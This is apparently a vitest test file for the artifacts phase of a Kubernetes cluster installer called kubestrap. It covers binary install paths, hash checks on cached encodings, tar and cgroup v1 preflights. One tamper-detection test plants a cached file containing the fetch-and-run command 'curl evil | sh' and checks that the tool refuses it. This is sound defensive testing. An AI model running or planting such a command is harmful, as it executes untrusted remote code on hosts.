import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { MANIFEST_FILE } from '../../src/artifacts/manifest.js';
import type { ClusterContext } from '../../src/phases/context.js';
import { localFileKind } from '../../src/engine/kinds/local-file.js';
import { resourceId, type LocalFileResource } from '../../src/engine/resource.js';
import { HostError } from '../../src/errors.js';
import { debianAdapter } from '../../src/os/debian.js';
import { detectOs } from '../../src/os/detect.js';
import { RunArtifacts } from '../../src/artifacts/provider.js';
import { MISSING_TOOLS_FACT } from '../../src/os/host-tools.js';
import { artifactsPhase } from '../../src/phases/artifacts.js';
import { CGROUP_FACT } from '../../src/preflight/cgroup.js';
import { binariesForRoles } from '../../src/components/binaries.js';
import { factsFor } from '../os/os-releases.js';
import { clusterFrom } from '../support/cluster.js';
import { useTempDir } from '../support/tmp.js';

const sha256 = (s: string) => createHash('sha256').update(s).digest('hex');

describe('the artifacts phase', () => {
  const tmp = useTempDir();

  /** A cluster of m1 (etcd, master), w1 (worker), e1 (etcd) whose hosts have these facts. */
  function cluster(config: string, facts: { machine?: string; cgroup?: string } = {}) {
    const dir = tmp();
    const base = config.includes('KUBE_VERSION=') ? '' : 'KUBE_VERSION=v1.37.2\n';
    const spec = clusterFrom(dir, `${base}ETCD_VERSION=v3.5.21\n${config}`);
    mkdirSync(spec.stateDir, { recursive: true });
    const hostFacts = factsFor('debian12', { machine: facts.machine ?? 'x86_64' });
    hostFacts.extra[CGROUP_FACT.key] = facts.cgroup ?? 'tmpfs';
    hostFacts.extra.zstd = 'no';
    const ctx: ClusterContext = { spec, mode: 'apply', hosts: spec.hosts.map((host) => ({ host, facts: hostFacts, os: detectOs(host.name, hostFacts), files: [] })) };
    return { dir, spec, ctx, facts: hostFacts };
  }

  /** A bundle holding every binary of the cluster's roles, for amd64. */
  function bundle(dir: string, spec: ReturnType<typeof cluster>['spec']): string {
    const out = join(dir, 'bundle');
    mkdirSync(join(out, 'amd64'), { recursive: true });
    const names = [...new Set(spec.hosts.flatMap((h) => binariesForRoles(h.roles, spec.versions)))];
    const artifacts = names.map((name) => {
      const project = ['etcd', 'etcdctl', 'etcdutl'].includes(name)
        ? 'etcd'
        : ['flanneld'].includes(name)
          ? 'flannel'
          : ['flannel'].includes(name)
            ? 'flannel-cni-plugin'
            : ['bridge', 'host-local', 'loopback', 'portmap'].includes(name)
              ? 'cni-plugins'
              : 'kubernetes';
      const content = `${name} binary`;
      writeFileSync(join(out, 'amd64', name), content);
      return { component: name, version: spec.versions[project].tag, arch: 'amd64', file: `amd64/${name}`, sha256: sha256(content) };
    });
    writeFileSync(join(out, MANIFEST_FILE), JSON.stringify({ artifacts }));
    return out;
  }

  it("installs each role's binaries from the bundle, 0755 in BIN_PATH (CNI plugins in /opt/cni/bin), restarting their daemon", async () => {
    const { dir, spec, ctx, facts } = cluster('BIN_PATH=/usr/local/kube\n');
    const phase = artifactsPhase(new RunArtifacts({ bundleDir: bundle(dir, spec), cacheDir: join(dir, 'cache') }));
    expect(await phase.prepare!(ctx)).toEqual([]);
    const resourcesOf = (name: string) => {
      const host = spec.hosts.find((h) => h.name === name)!;
      return phase.resources({ spec, host, facts, os: detectOs(name, facts), files: [] });
    };
    const all = resourcesOf('w1');
    // Their folders first: kubestrap's own, so a reset removes them once empty.
    expect(all.filter((r) => r.kind === 'directory').map((r) => r.path)).toEqual(['/usr/local/kube', '/opt/cni/bin']);
    const worker = all.filter((r): r is LocalFileResource => r.kind === 'localFile');
    expect(worker.map((r) => r.path)).toEqual([
      '/usr/local/kube/kubelet',
      '/usr/local/kube/kube-proxy',
      '/usr/local/kube/kubectl',
      '/usr/local/kube/flanneld',
      '/opt/cni/bin/flannel',
      '/opt/cni/bin/bridge',
      '/opt/cni/bin/host-local',
      '/opt/cni/bin/loopback',
      '/opt/cni/bin/portmap',
    ]);
    const kubelet = worker[0]!;
    expect(kubelet).toMatchObject({
      kind: 'localFile',
      mode: 0o755,
      owner: 'root',
      group: 'root',
      restarts: ['kubelet'],
      label: 'kubelet v1.37.2',
      record: { component: 'kubelet', version: 'v1.37.2' },
    });
    expect(kubelet.source).toMatchObject({ sha256: sha256('kubelet binary'), size: 14, transfer: { codec: 'gzip' } });
    expect(worker.find((r) => r.path.endsWith('/portmap'))!.restarts).toEqual([]);
    expect(resourcesOf('e1').map((r) => (r.kind === 'localFile' ? r.path.split('/').at(-1) : r.kind))).toEqual(['directory', 'etcd', 'etcdctl', 'etcdutl']);
    // A system folder is the system's: binaries go there, the folder is never kubestrap's.
    const system = cluster('BIN_PATH=/usr/local/bin\n');
    const inSystem = artifactsPhase(new RunArtifacts({ bundleDir: bundle(system.dir, system.spec), cacheDir: join(system.dir, 'cache') }));
    expect(await inSystem.prepare!(system.ctx)).toEqual([]);
    const e1 = system.spec.hosts.find((h) => h.name === 'e1')!;
    expect(inSystem.resources({ spec: system.spec, host: e1, facts: system.facts, os: detectOs('e1', system.facts), files: [] }).filter((r) => r.kind === 'directory')).toEqual([]);
  });

  it('hashes what a later run sends before it leaves: a stored encoding that changed is refused, the others pass', async () => {
    const { dir, spec, ctx, facts } = cluster('');
    const options = { bundleDir: bundle(dir, spec), cacheDir: join(dir, 'cache') };
    const uploadsOf = (phase: ReturnType<typeof artifactsPhase>) => {
      const host = spec.hosts.find((h) => h.name === 'w1')!;
      const resources = phase.resources({ spec, host, facts, os: detectOs(host.name, facts), files: [] }).filter((r): r is LocalFileResource => r.kind === 'localFile');
      return resources.flatMap((r) => localFileKind.diff(r, 'absent', resourceId(r), { packages: debianAdapter })!.steps.flatMap((s) => (s.type === 'upload' ? [s.upload] : [])));
    };
    // The first run makes the encodings (from the bytes it hashed), pins their own digests in the
    // cluster's lock file (a later run checks them by one read), and needs no second read.
    const first = artifactsPhase(new RunArtifacts(options));
    expect(await first.prepare!(ctx)).toEqual([]);
    await first.beforeUpload!(uploadsOf(first));
    const lock = JSON.parse(readFileSync(join(spec.stateDir, 'artifacts.lock.json'), 'utf8')) as { encodings: Record<string, { sha256: string; size: number }> };
    const kubeletEncoding = join(dir, 'cache', 'encoded', 'gzip', sha256('kubelet binary'));
    expect(lock.encodings[`gzip ${sha256('kubelet binary')}`]).toEqual({ sha256: createHash('sha256').update(readFileSync(kubeletEncoding)).digest('hex'), size: statSync(kubeletEncoding).size });

    // Before the next run, someone replaced the stored encoding of the kubelet.
    const encoded = join(dir, 'cache', 'encoded', 'gzip', sha256('kubelet binary'));
    chmodSync(encoded, 0o644);
    writeFileSync(encoded, gzipSync('curl evil | sh'));
    chmodSync(encoded, 0o444);
    const next = artifactsPhase(new RunArtifacts(options));
    expect(await next.prepare!(ctx)).toEqual([]);
    const uploads = uploadsOf(next);
    expect(uploads.find((u) => u.path.endsWith('/kubelet'))!.transfer.file).toBe(encoded);
    await expect(next.beforeUpload!(uploads)).rejects.toThrow(
      `${encoded} is not what was checked: it must hold sha256 ${sha256('kubelet binary')}, but decodes (gzip) to sha256 ${sha256('curl evil | sh')}`,
    );
    await expect(next.beforeUpload!(uploads.filter((u) => !u.path.endsWith('/kubelet')))).resolves.toBeUndefined();
  });

  it('reports a bundle that lacks a binary as a problem, before any resource is worked out', async () => {
    const { dir, ctx } = cluster('');
    mkdirSync(join(dir, 'empty'), { recursive: true });
    writeFileSync(join(dir, 'empty', MANIFEST_FILE), JSON.stringify({ artifacts: [] }));
    const problems = await artifactsPhase(new RunArtifacts({ bundleDir: join(dir, 'empty'), cacheDir: join(dir, 'cache') })).prepare!(ctx);
    expect(problems).toHaveLength(1);
    expect(problems[0]!.message).toMatch(/^\d+ artifacts missing or not as recorded:/);
  });

  it('refuses a host without tar (it unpacks what is sent), naming it and the package, in a run without the OS phase, which installs it', () => {
    const { spec, ctx } = cluster('');
    ctx.hosts[1]!.facts = { ...ctx.hosts[1]!.facts, extra: { ...ctx.hosts[1]!.facts.extra, [MISSING_TOOLS_FACT.key]: 'tar\n' } };
    const phase = artifactsPhase();
    const toolsOnly = (problems: ReturnType<NonNullable<typeof phase.preflight>>) => problems.filter((p) => p instanceof HostError && p.details.resource === 'host tools');
    expect(toolsOnly(phase.preflight!({ ...ctx, phases: ['os', 'artifacts'] }))).toEqual([]);
    const problems = toolsOnly(phase.preflight!({ ...ctx, phases: ['artifacts'] }));
    expect(problems.map((p) => p.format())).toEqual([expect.stringContaining(`${spec.hosts[1]!.name} host tools: lacks a command kubestrap runs there: tar (unpacking the binaries kubestrap sends)`)]);
    expect(problems[0]!.hint).toContain('install tar on');
  });

  describe('cgroup v1 preflight', () => {
    it('refuses a cgroup v1 worker with Kubernetes 1.35+, naming the host and both ways out', () => {
      const { ctx } = cluster('');
      const problems = artifactsPhase().preflight!(ctx);
      expect(problems).toHaveLength(1);
      expect(problems[0]).toBeInstanceOf(HostError);
      expect(problems[0]!.where()).toBe('w1');
      expect(problems[0]!.message).toContain('is a cgroup v1 host (/sys/fs/cgroup is tmpfs), and the kubelet of Kubernetes v1.37.2 refuses to start there');
      expect(problems[0]!.hint).toContain('KUBE_VERSION up to v1.34.x');
      expect(problems[0]!.hint).toContain('KUBELET_ALLOW_CGROUP_V1=true');
    });

    it.each([
      ['KUBELET_ALLOW_CGROUP_V1=true\n', 'tmpfs'],
      ['KUBE_VERSION=v1.34.7\n', 'tmpfs'],
      ['', 'cgroup2fs'],
    ])('accepts %j on %s', (config, fs) => {
      const { ctx } = cluster(config, { cgroup: fs });
      expect(artifactsPhase().preflight!(ctx)).toEqual([]);
    });

    it('warns on every run that the override is in force', () => {
      const { spec } = cluster('KUBELET_ALLOW_CGROUP_V1=true\n');
      expect(spec.warnings.map((w) => w.message)).toContainEqual(expect.stringContaining('kubelets of v1.37.2 are told to run on cgroup v1 hosts (failCgroupV1: false)'));
    });
  });
});
